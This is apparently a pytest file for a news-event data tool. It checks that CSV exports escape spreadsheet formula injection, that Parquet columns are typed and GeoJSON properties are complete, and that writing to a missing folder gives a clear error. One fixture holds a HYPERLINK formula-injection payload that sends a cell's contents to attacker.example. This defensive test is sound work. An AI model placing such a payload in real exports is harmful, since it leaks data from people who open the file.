"""Exports that used to mangle data or stop with a traceback: formula injection in CSV cells,
untyped Parquet columns, GeoJSON properties missing CSV columns, an output folder that does not
exist."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsevents import export
from newsevents.cli import cli
from newsevents.errors import InputError
from newsevents.records import Actor, Place, Result
from newsevents.store import open_store
from test_store_data import make_article, make_event, store_url, strike_result, talks_result  # noqa: F401

CARACAS = Place(text="Caracas", name="Caracas", feature="PPLC", country="VEN", admin1="Capital District",
                lat=10.48, lon=-66.88, geonameid=3646738, precision="city")
HOSTILE_SITE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
STORY = ("-Police in Caracas detained an opposition activist on Monday, her lawyer said.\n\n"
         "The activist had called for protests against the election result.")


def _hostile_result() -> Result:
    article = make_article(STORY, "hostile", publisher=HOSTILE_SITE, headline="@headline")
    sentence = STORY.split("\n\n")[0]
    police = Actor(text="+Police", name="+Police", country="VEN", sector="COP", kind="organisation")
    event = make_event(article, sentence, "COERCE", trigger="detained", mode="arrest",
                       acled=("Strategic developments", "Arrests"), actor=(police,), place=CARACAS)
    return Result(article=article, events=(event,))


@pytest.fixture
def hostile(store_url: str) -> str:
    with open_store(store_url) as store:
        store.write_batch([_hostile_result(), strike_result(), talks_result()], "r1")
    return store_url


def test_csv_text_cells_that_start_a_formula_are_escaped(hostile: str) -> None:
    buf = io.StringIO()
    with open_store(hostile) as store:
        export.export(store, "csv", buf)
    row = next(r for r in csv.DictReader(io.StringIO(buf.getvalue())) if r["location"] == "Caracas")
    assert row["source"] == "'" + HOSTILE_SITE
    assert row["notes"] == "'-Police in Caracas detained an opposition activist on Monday, her lawyer said."
    assert row["actor1"] == "'+Police"
    # numbers stay numbers: a western longitude is negative
    assert row["longitude"] == "-66.88" and row["latitude"] == "10.48"
    assert row["confidence"] == "0.8"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cell_escapes_each_formula_start(cell: str) -> None:
    assert export.csv_cell(cell) == "'" + cell
    assert export.csv_cell("plain " + cell) == "plain " + cell


def test_events_csv_escapes_text_cells_too(hostile: str) -> None:
    result = CliRunner().invoke(cli, ["events", "--db", hostile, "--format", "csv", "--country", "VEN"])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    assert row["actor"] == "'+Police (VEN COP)"


def test_parquet_columns_are_typed_and_missing_values_null(hostile: str, tmp_path: Path) -> None:
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    path = tmp_path / "events.parquet"
    with open_store(hostile) as store:
        export.export(store, "parquet", path)
    table = pq.read_table(path)
    schema = table.schema
    assert schema.field("year").type == pa.int64()
    assert schema.field("event_date").type == pa.date32()
    assert schema.field("iso").type == pa.int64()
    assert schema.field("longitude").type == pa.float64()
    rows = table.to_pylist()
    caracas = next(r for r in rows if r["location"] == "Caracas")
    assert (caracas["year"], caracas["event_date"], caracas["iso"]) == (2024, dt.date(2024, 11, 1), 862)
    assert caracas["longitude"] == -66.88
    assert caracas["admin2"] is None and caracas["region"] is None and caracas["actor2"] is None
    assert "" not in [v for r in rows for v in r.values()]


def test_geojson_properties_hold_every_csv_column(hostile: str) -> None:
    buf = io.StringIO()
    with open_store(hostile) as store:
        export.export(store, "geojson", buf)
    features = json.loads(buf.getvalue())["features"]
    assert features
    for feature in features:
        assert list(feature["properties"]) == list(export.CSV_COLUMNS)
        lon, lat = feature["geometry"]["coordinates"]
        assert (feature["properties"]["longitude"], feature["properties"]["latitude"]) == (lon, lat)
    caracas = next(f["properties"] for f in features if f["properties"]["location"] == "Caracas")
    assert caracas["year"] == 2024 and caracas["event_date"] == "2024-11-01"
    assert caracas["admin2"] is None and caracas["source"] == HOSTILE_SITE  # JSON is not a spreadsheet


def test_export_into_a_missing_folder_is_an_input_error(hostile: str, tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "dir" / "x.csv"
    with open_store(hostile) as store:
        for fmt in ("csv", "parquet"):
            with pytest.raises(InputError, match=r"folder .* does not exist"):
                export.export(store, fmt, target.with_suffix("." + fmt))
    result = CliRunner().invoke(cli, ["export", "--db", hostile, "--format", "csv", "-o", str(target)])
    assert result.exit_code == 2
    assert result.output.startswith("error: cannot write ") and "Traceback" not in result.output
    assert not target.parent.exists()
